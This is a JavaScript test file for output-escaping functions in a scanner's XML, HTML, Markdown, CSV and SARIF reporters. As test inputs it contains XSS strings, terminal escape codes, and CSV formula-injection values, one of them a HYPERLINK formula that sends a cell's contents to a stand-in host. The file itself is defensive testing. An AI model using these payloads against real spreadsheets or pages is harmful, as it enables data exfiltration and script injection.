import { describe, it } from 'node:test'
import assert from 'node:assert/strict'
import { xmlAttr, xmlText } from '../../src/reporters/xml-text.js'
import { htmlText, jsonForScriptBlock } from '../../src/reporters/html-text.js'
import { markdownFence, markdownText } from '../../src/reporters/markdown-text.js'
import { csvCell } from '../../src/reporters/csv-cell.js'
import { artifactUri } from '../../src/reporters/sarif.js'
import { parseXml } from './xml-check.js'

describe('xml escaping', () => {
  it('escapes markup characters in text and attributes', () => {
    assert.equal(xmlText('a<b>&c'), 'a&lt;b&gt;&amp;c')
    assert.equal(xmlAttr(`"q" 'a' <x>`), '&quot;q&quot; &apos;a&apos; &lt;x&gt;')
  })
  it('keeps tabs and line breaks in attributes as character references', () => {
    assert.equal(xmlAttr('a\tb\nc\rd'), 'a&#9;b&#10;c&#13;d')
  })
  it('makes characters illegal in XML 1.0 visible instead of emitting them', () => {
    const hostile = 'bell\u0007 esc\u001b[31m nul\u0000 ffff\uffff lone\ud800 pair\ud83d\ude00'
    const text = xmlText(hostile)
    assert.equal(text, 'bell\\u0007 esc\\u001b[31m nul\\u0000 ffff\\uffff lone\\ud800 pair\ud83d\ude00')
    const doc = parseXml(`<r a="${xmlAttr(hostile)}">${text}</r>`)
    assert.equal(doc.attrs.a, 'bell\\u0007 esc\\u001b[31m nul\\u0000 ffff\\uffff lone\\ud800 pair\ud83d\ude00')
  })
})

describe('html escaping', () => {
  it('escapes the five HTML-significant characters', () => {
    assert.equal(htmlText(`<img src=x onerror="a('b')">&`), '&lt;img src=x onerror=&quot;a(&#39;b&#39;)&quot;&gt;&amp;')
  })
  it('JSON for a script block cannot close the block or open a comment, and parses back unchanged', () => {
    const value = { tag: '</script><script>alert(1)</script>', c: '<!-- x -->', amp: 'a&b', ls: 'x\u2028y' }
    const json = jsonForScriptBlock(value)
    assert.doesNotMatch(json, /<|>|&|\u2028/)
    assert.deepEqual(JSON.parse(json), value)
  })
})

describe('markdown escaping', () => {
  it('neutralises table breaks, code spans, emphasis, links, HTML and mentions', () => {
    const out = markdownText('a|b `c` *d* _e_ [f](http://x) <b>g</b> @octocat ~~h~~ \\')
    assert.equal(out, 'a\\|b \\`c\\` \\*d\\* \\_e\\_ \\[f\\](http://x) &lt;b&gt;g&lt;/b&gt; @\u200boctocat \\~\\~h\\~\\~ \\\\')
  })
  it('turns line breaks and control characters into spaces so a table row stays one line', () => {
    assert.equal(markdownText('one\r\ntwo\u0007three'), 'one two three')
  })
  it('fences code with more backticks than the code contains', () => {
    assert.equal(markdownFence('a ```` b', 'sh'), '`````sh\na ```` b\n`````')
    assert.equal(markdownFence('plain'), '```\nplain\n```')
  })
})

describe('csv cells', () => {
  it('quotes fields with commas, quotes and line breaks (RFC 4180)', () => {
    assert.equal(csvCell('a,b'), '"a,b"')
    assert.equal(csvCell('say "hi"'), '"say ""hi"""')
    assert.equal(csvCell('l1\r\nl2'), '"l1\r\nl2"')
    assert.equal(csvCell('plain'), 'plain')
    assert.equal(csvCell(undefined), '')
    assert.equal(csvCell(12), '12')
  })
  it('prefixes cells that a spreadsheet would run as a formula with a single quote', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) assert.ok(csvCell(s).replace(/^"/, '').startsWith(`'`), JSON.stringify(s))
    assert.equal(csvCell('=HYPERLINK("http://e/?"&A1)'), `"'=HYPERLINK(""http://e/?""&A1)"`)
    assert.equal(csvCell('a=b'), 'a=b')
  })
  it('shows control characters as escapes', () => {
    assert.equal(csvCell('x\u001b[31m'), 'x\\u001b[31m')
  })
})

describe('SARIF artifact URIs', () => {
  it('keeps relative paths relative and percent-encodes each segment', () => {
    assert.equal(artifactUri('templates/app stack.yaml'), 'templates/app%20stack.yaml')
    assert.equal(artifactUri('./infra/main.tf'), 'infra/main.tf')
    assert.equal(artifactUri('a\\b#c?.yaml'), 'a/b%23c%3F.yaml')
    assert.equal(artifactUri('50%.yml'), '50%25.yml')
  })
  it('turns absolute paths into file URIs', () => {
    assert.equal(artifactUri('/repo/x y.tf'), 'file:///repo/x%20y.tf')
    assert.equal(artifactUri('C:\\repo\\main.tf'), 'file:///C:/repo/main.tf')
  })
})
